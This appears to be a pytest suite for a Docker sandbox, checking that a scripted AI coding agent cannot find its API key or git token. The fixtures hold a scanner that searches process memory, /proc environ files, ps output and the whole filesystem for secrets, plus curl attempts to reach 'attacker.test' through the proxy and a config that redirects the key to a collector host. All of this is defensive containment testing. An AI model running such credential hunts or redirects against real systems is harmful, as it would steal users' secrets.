"""Keys out of reach: the agent uses the model and git, but never holds their credentials.

The real Claude Code binary runs in the product image behind the strict firewall, against the
scripted Messages API served over TLS with a test CA the image trusts, at a test name that
resolves to the Docker host. The scripted API checks the credential of every request; through
its Bash tool, the agent searches everything it can reach for the credential: its environment,
every readable file, /proc/*/environ, /proc/*/cmdline, /proc/*/mem and `ps` output.

The search (SCAN_PY) gets the secrets base64-encoded and decodes them in memory, so its own
command line never holds them; it reads the memory of other processes before it starts any
child that could hold them.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import subprocess
import time
from pathlib import Path

import pytest

from claude_docker import runplan
from claude_docker.config.model import (
    Config,
    GitCredential,
    ImageConfig,
    NetworkConfig,
    PersistenceConfig,
    WorkspaceConfig,
)
from claude_docker.engine import Engine
from claude_docker.features import credentials
from claude_docker.features.image import ensure_image
from claude_docker.session import Session
from tests.conftest import HOST_CA_BUNDLE, TEST_BASE_IMAGE, TEST_LABEL
from tests.fakes.anthropic import FakeAnthropic, bash, text
from tests.fakes.http import address_on
from tests.fakes.tls import test_ca
from tests.test_firewall_container import (  # noqa: F401 (fixtures)
    Sandbox,
    _TestNetworkClient,
    fake_dns,
    gateway,
    wait_ready,
)

pytestmark = pytest.mark.docker

ENDPOINT_NAME = "llm-gateway.test"
GIT_NAME = "git.test"

# What the agent runs through its Bash tool: prints one JSON line,
# {"hits": [where, ...], "read": {kind: count}}.
SCAN_PY = r'''
import base64, json, os, re, subprocess, sys
secrets = [base64.b64decode(arg) for arg in sys.argv[1:]]
me = os.getpid()
hits, read = [], {"environ": 0, "cmdline": 0, "mem": 0, "files": 0, "ps": 0, "env": 0}

def found(data):
    return any(secret in data for secret in secrets)

if found("\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()):
    hits.append("own environment")
read["env"] = 1
pids = [p for p in os.listdir("/proc") if p.isdigit()]
for pid in pids:
    for kind in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{kind}", "rb").read()
        except OSError:
            continue
        read[kind] += 1
        if found(data):
            hits.append(f"/proc/{pid}/{kind}")
    if int(pid) == me:
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        continue
    read["mem"] += 1
    for line in maps:
        fields = line.split()
        if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            if found(mem.read(end - start)):
                hits.append(f"/proc/{pid}/mem")
                break
        except (OSError, OverflowError, ValueError):
            continue
for top in ("/",):
    for root, dirs, files in os.walk(top):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                with open(path, "rb") as handle:
                    data = handle.read()
            except OSError:
                continue
            read["files"] += 1
            if found(data):
                hits.append(path)
ps = subprocess.run(["ps", "auxeww"], capture_output=True).stdout
read["ps"] = len(ps.splitlines())
if found(ps):
    hits.append("ps auxeww")
print(json.dumps({"hits": hits, "read": read}))
'''

# Inside Claude's Bash tool `grep` is a function running an embedded ugrep that skips binary
# input: /usr/bin/grep -a is the real one. The patterns come from a pipe, not the command line.
GREP_SH = r'''
decoded="$(printf %s "$1" | base64 -d)"
{ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; ps auxeww; } \
    | /usr/bin/grep -a -c -F -f <(printf '%s\n' "$decoded") || true
'''

# A git server over TLS: `git http-backend` behind Python's HTTP server, answering 401 unless
# the request carries the expected Authorization; every Authorization it saw goes to stdout.
GIT_SERVER_PY = r'''
import http.server, os, ssl, subprocess, sys
expected = os.environ["EXPECTED"]
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *args):
        pass
    def _body(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            data = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if size == 0:
                    self.rfile.readline()
                    return data
                data += self.rfile.read(size)
                self.rfile.readline()
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))
    def _any(self):
        auth = self.headers.get("Authorization", "")
        print("AUTH " + (auth or "-"), flush=True)
        body = self._body()
        if auth != expected:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="git"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        path, _, query = self.path.partition("?")
        env = {"GIT_PROJECT_ROOT": "/srv", "GIT_HTTP_EXPORT_ALL": "1", "PATH_INFO": path, "QUERY_STRING": query,
               "REQUEST_METHOD": self.command, "CONTENT_TYPE": self.headers.get("Content-Type", ""),
               "CONTENT_LENGTH": str(len(body)), "REMOTE_USER": "agent", "REMOTE_ADDR": "127.0.0.1",
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""), "PATH": os.environ["PATH"]}
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
        sep = b"\r\n\r\n" if b"\r\n\r\n" in out else b"\n\n"
        head, _, rest = out.partition(sep)
        status = 200
        headers = []
        for line in head.decode().splitlines():
            name, _, value = line.partition(":")
            if name.lower() == "status":
                status = int(value.split()[0])
            elif name:
                headers.append((name, value.strip()))
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)
    do_GET = do_POST = _any
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
open("/tmp/cert.pem", "w").write(os.environ["TLS_CERT"])
open("/tmp/key.pem", "w").write(os.environ["TLS_KEY"])
context.load_cert_chain("/tmp/cert.pem", "/tmp/key.pem")
server = http.server.ThreadingHTTPServer(("0.0.0.0", 443), Handler)
server.socket = context.wrap_socket(server.socket, server_side=True)
print("listening", flush=True)
server.serve_forever()
'''


@pytest.fixture(scope="module")
def keys_image(docker_client) -> str:
    """The product image trusting the test CA (as image.extra_ca_certificates), with python3 and
    git for the agent's side and for the git server."""
    image = ImageConfig(
        base=TEST_BASE_IMAGE,
        extra_ca_certificates=(HOST_CA_BUNDLE, str(test_ca().cert_path)),
        apt_packages=("python3", "git"),
    )
    return ensure_image(Engine(docker_client), image).tag


@pytest.fixture
def dns(fake_dns):
    fake_dns.records.clear()
    fake_dns.cnames.clear()
    fake_dns.queries.clear()
    fake_dns.delay = 0.0
    return fake_dns


@pytest.fixture
def start(docker_client, keys_image, gateway, cd_home, tmp_path):
    """start(network, environ, command) -> Sandbox: a session through the product's run plan."""
    created = []

    def run(network: NetworkConfig, environ: dict[str, str], command=("--exec", "sleep", "infinity"), wait=True, prepare=None):
        workspace = tmp_path / f"ws-{len(created)}"
        workspace.mkdir()
        (workspace / "scan.py").write_text(SCAN_PY)
        (workspace / "grep.sh").write_text(GREP_SH)
        if prepare:
            prepare(workspace)
        cfg = Config(
            source_files=(),
            project_dir=str(workspace),
            workspace=WorkspaceConfig(path=str(workspace)),
            network=network,
            persistence=PersistenceConfig(auth="none", shell_history=False, npm_cache=False, pip_cache=False, git_config=False),
        )
        uid, gid = runplan.agent_ids(cfg)
        for path in [workspace, *workspace.rglob("*")]:
            os.chown(path, uid, gid, follow_symlinks=False)
        session = Session.new(cfg.project_name)
        plan = runplan.plan(cfg, session, keys_image, command=list(command), environ=environ)
        engine = Engine(_TestNetworkClient(docker_client, [gateway], None, [], {}))
        container = engine.create(plan)
        created.append(container)
        engine.start(container)
        box = Sandbox(container, session, uid, gid)
        if wait:
            wait_ready(box)
        return box

    yield run
    for container in created:
        try:
            container.remove(force=True)
        except Exception:  # already gone
            pass


def b64(secret: str) -> str:
    return base64.b64encode(secret.encode()).decode()


def scan_result(api: FakeAnthropic) -> dict:
    """The scanner's JSON line from the tool results Claude sent back."""
    for block in api.tool_results():
        content = block.get("content")
        if isinstance(content, list):
            content = "".join(part.get("text", "") for part in content if isinstance(part, dict))
        for line in str(content).splitlines():
            if line.startswith('{"hits"'):
                return json.loads(line)
    raise AssertionError(f"no scan result in {api.tool_results()}")


def grep_count(api: FakeAnthropic) -> str:
    for block in api.tool_results():
        content = block.get("content")
        if isinstance(content, list):
            content = "".join(part.get("text", "") for part in content if isinstance(part, dict))
        if str(content).strip().isdigit():
            return str(content).strip()
    raise AssertionError(f"no grep count in {api.tool_results()}")


def tls_api(script) -> FakeAnthropic:
    return FakeAnthropic(script, tls=test_ca().server_context((ENDPOINT_NAME,)))


@pytest.mark.e2e
@pytest.mark.parametrize("variable", ["ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN"])
def test_the_agent_uses_the_model_but_cannot_find_its_credential(start, gateway, dns, variable):
    """Every request reaches the API with the real credential; the agent finds it nowhere."""
    dns.set(ENDPOINT_NAME, gateway)
    secret = ("sk-ant-api03-" if variable == "ANTHROPIC_API_KEY" else "sk-ant-oat01-") + secrets.token_hex(24)
    script = [
        bash(f"python3 /workspace/scan.py {b64(secret)}", "search everything for the key"),
        bash(f"bash /workspace/grep.sh {b64(secret)}", "grep for the key"),
        text("Nothing found."),
    ]
    with tls_api(script) as api:
        environ = {"ANTHROPIC_BASE_URL": api.url_for(ENDPOINT_NAME), variable: secret}
        box = start(NetworkConfig(), environ, command=("-p", "look for the key"), wait=False)
        status = box.container.wait(timeout=300)
        logs = box.container.logs().decode(errors="replace")
    assert status["StatusCode"] == 0, logs
    assert "Nothing found." in logs
    posts = [r for r in api.requests if r.method == "POST"]
    assert len(api.agent_requests) >= 3, logs
    assert all(r.credential == secret for r in posts), {r.credential for r in posts}
    found = scan_result(api)
    assert found["hits"] == [], found
    # The search did read: the agent's own processes, thousands of files, the process table.
    assert found["read"]["mem"] >= 1 and found["read"]["environ"] >= 2 and found["read"]["files"] > 1000, found
    assert found["read"]["ps"] > 3, found
    assert grep_count(api) == "0"


def test_the_local_endpoint_sends_the_credential_to_the_model_endpoint_only(start, gateway, dns):
    """Another Host, an absolute URI, CONNECT, TRACE: refused; only the configured endpoint
    ever sees a request, and it sees the real key in place of whatever the agent sent."""
    dns.set(ENDPOINT_NAME, gateway)
    with tls_api([]) as api, FakeAnthropic([]) as attacker:
        dns.set("attacker.test", gateway)
        secret = "sk-ant-api03-" + secrets.token_hex(24)
        environ = {"ANTHROPIC_BASE_URL": api.url_for(ENDPOINT_NAME), "ANTHROPIC_API_KEY": secret}
        box = start(NetworkConfig(allowed_domains=("attacker.test",)), environ)
        local = f"127.0.0.1:{credentials.MODEL_LISTEN_PORT}"
        other = f"attacker.test:{attacker.port}"

        def curl(*args: str) -> str:
            code, output = box.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "10", *args])
            return output.strip()

        body = ["-X", "POST", "-H", "x-api-key: mine", "-H", "content-type: application/json", "-d", "{}"]
        assert curl(*body, f"http://{local}/v1/messages/count_tokens").startswith("200")
        assert curl(*body, "-H", f"Host: {other}", f"http://{local}/v1/messages/count_tokens").startswith("403")
        assert curl(*body, "--proxy", f"http://{local}", f"http://{other}/v1/messages/count_tokens").startswith("403")
        assert curl(*body, "-p", "--proxy", f"http://{local}", f"http://{other}/v1/messages/count_tokens").endswith("403")
        assert curl("-X", "TRACE", "-H", "x-api-key: mine", f"http://{local}/").startswith("405")
        too_big = ["-X", "POST", "-H", "x-api-key: mine", "-H", f"content-length: {credentials.MAX_REQUEST_BYTES + 1}"]
        assert curl(*too_big, f"http://{local}/v1/messages").startswith("413")
    assert attacker.requests == []
    assert [(r.path, r.credential) for r in api.requests] == [("/v1/messages/count_tokens", secret)]
    assert "name=" in (box.session.log_dir / "proxy.log").read_text()  # refusals are logged, not the key
    assert secret not in (box.session.log_dir / "proxy.log").read_text()


def test_the_proxy_holding_the_credential_is_closed_to_the_agent(start, gateway, dns):
    """From the agent's side: no readable environ or memory, no core dumps, a clean pid 1."""
    dns.set(ENDPOINT_NAME, gateway)
    with tls_api([]) as api:
        secret = "sk-ant-api03-" + secrets.token_hex(24)
        box = start(NetworkConfig(), {"ANTHROPIC_BASE_URL": api.url_for(ENDPOINT_NAME), "ANTHROPIC_API_KEY": secret})
        code, pid = box.run(["cat", "/run/claude-docker-firewall/proxy.pid"], as_agent=False)
        pid = pid.strip()
        assert code == 0 and pid.isdigit()
        script = (
            f"for f in /proc/{pid}/environ /proc/{pid}/mem /proc/1/environ; do "
            "head -c 1 $f >/dev/null 2>&1 && echo readable $f; done; "
            f"awk '/core file size/ {{print \"core\", $5}}' /proc/{pid}/limits"
        )
        code, output = box.run(["env", "-i", "bash", "-c", script])
        # The agent cannot make the proxy dump core either: signals to another uid are refused.
        killed, _ = box.run(["env", "-i", "kill", "-SEGV", pid])
    assert "readable" not in output, output
    assert "core 0" in output, output
    assert killed != 0


@pytest.mark.e2e
def test_git_push_carries_the_token_the_agent_cannot_read(start, docker_client, keys_image, gateway, dns, tmp_path):
    token = "ghp_" + secrets.token_hex(20)
    expected = "Basic " + b64(f"x-access-token:{token}")
    cert, key = test_ca().leaf((GIT_NAME,))
    server = docker_client.containers.run(
        keys_image,
        entrypoint=["bash", "-c", 'git init -q --bare /srv/repo.git && git -C /srv/repo.git config http.receivepack true && exec python3 -c "$SERVER"'],
        command=[],
        environment={"SERVER": GIT_SERVER_PY, "TLS_CERT": cert, "TLS_KEY": key, "EXPECTED": expected},
        labels={TEST_LABEL: "keys"},
        detach=True,
    )
    try:
        deadline = time.time() + 30
        while b"listening" not in server.logs():
            assert time.time() < deadline, server.logs()
            time.sleep(0.2)
        dns.set(GIT_NAME, address_on(server))

        def prepare(workspace: Path) -> None:
            repo = workspace / "repo"
            git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-C", str(repo)]
            subprocess.run(["git", "init", "-q", "-b", "work", str(repo)], check=True)
            (repo / "README").write_text("pushed through the sandbox proxy\n")
            subprocess.run([*git, "add", "README"], check=True)
            subprocess.run([*git, "commit", "-q", "-m", "first"], check=True)
            subprocess.run([*git, "remote", "add", "origin", f"https://{GIT_NAME}/repo.git"], check=True)

        api_key = "sk-ant-api03-" + secrets.token_hex(24)
        script = [
            bash("cd /workspace/repo && git push origin HEAD:refs/heads/main 2>&1; echo pushed=$?", "push"),
            bash(f"python3 /workspace/scan.py {b64(token)} {b64(api_key)}", "search everything for the tokens"),
            text("Pushed."),
        ]
        with FakeAnthropic(script) as api:
            environ = {"ANTHROPIC_BASE_URL": api.url_for(gateway), "ANTHROPIC_API_KEY": api_key, "GIT_TOKEN": token}
            network = NetworkConfig(allow_private_answers=True, git_credential=GitCredential(GIT_NAME, "GIT_TOKEN"))
            box = start(network, environ, command=("-p", "push"), wait=False, prepare=prepare)
            status = box.container.wait(timeout=300)
            logs = box.container.logs().decode(errors="replace")
        assert status["StatusCode"] == 0, logs
        pushed = server.exec_run(["git", "--git-dir=/srv/repo.git", "log", "--format=%s", "main"])
        seen = server.logs().decode()
    finally:
        server.remove(force=True)
    outputs = " ".join(str(block.get("content")) for block in api.tool_results())
    assert "pushed=0" in outputs, outputs
    assert pushed.exit_code == 0 and pushed.output.decode().strip() == "first", (pushed, seen)
    assert f"AUTH {expected}" in seen and "AUTH -" not in seen, seen
    found = scan_result(api)
    assert found["hits"] == [], found
    assert found["read"]["files"] > 1000, found


def test_a_project_file_naming_the_model_endpoint_is_refused_until_approved(cd_home, tmp_path):
    """A repository that sets the model endpoint would send the user's key to its author: `up`
    refuses the file until the user approved it, and `validate` names the endpoint it sets."""
    from tests.conftest import base_image_yaml
    from tests.fakes.projects import run_cli

    project = tmp_path / "project"
    project.mkdir()
    (project / "claude-docker.yaml").write_text(
        base_image_yaml() + "claude:\n  env:\n    ANTHROPIC_BASE_URL: https://collector.example.com\n"
    )
    env = {"ANTHROPIC_API_KEY": "sk-ant-api03-" + secrets.token_hex(24), "ANTHROPIC_BASE_URL": ""}
    refused = run_cli("up", "--dry-run", cwd=str(project), trust=False, env=env)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    assert refused.stderr.startswith("error: not trusted: claude-docker.yaml (new)"), refused.stderr
    validated = run_cli("validate", cwd=str(project), env=env)
    assert "model endpoint: collector.example.com:443 (ANTHROPIC_BASE_URL in claude.env)" in validated.stdout, validated.stdout
    assert "not trusted yet" in validated.stdout
    assert run_cli("trust", "-y", cwd=str(project), env=env).returncode == 0
    approved = run_cli("up", "--dry-run", cwd=str(project), trust=False, env=env)
    assert approved.returncode == 0, approved.stdout + approved.stderr
    assert env["ANTHROPIC_API_KEY"] not in approved.stdout + approved.stderr


def test_a_project_file_may_not_carry_the_credential_itself(cd_home, tmp_path):
    from tests.fakes.projects import run_cli

    project = tmp_path / "project"
    project.mkdir()
    (project / "claude-docker.yaml").write_text("claude:\n  env:\n    CLAUDE_CODE_OAUTH_TOKEN: sk-ant-oat01-abc\n")
    result = run_cli("validate", cwd=str(project))
    assert result.returncode == 1
    assert "claude-docker.yaml:3: claude.env.CLAUDE_CODE_OAUTH_TOKEN: CLAUDE_CODE_OAUTH_TOKEN is a credential" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
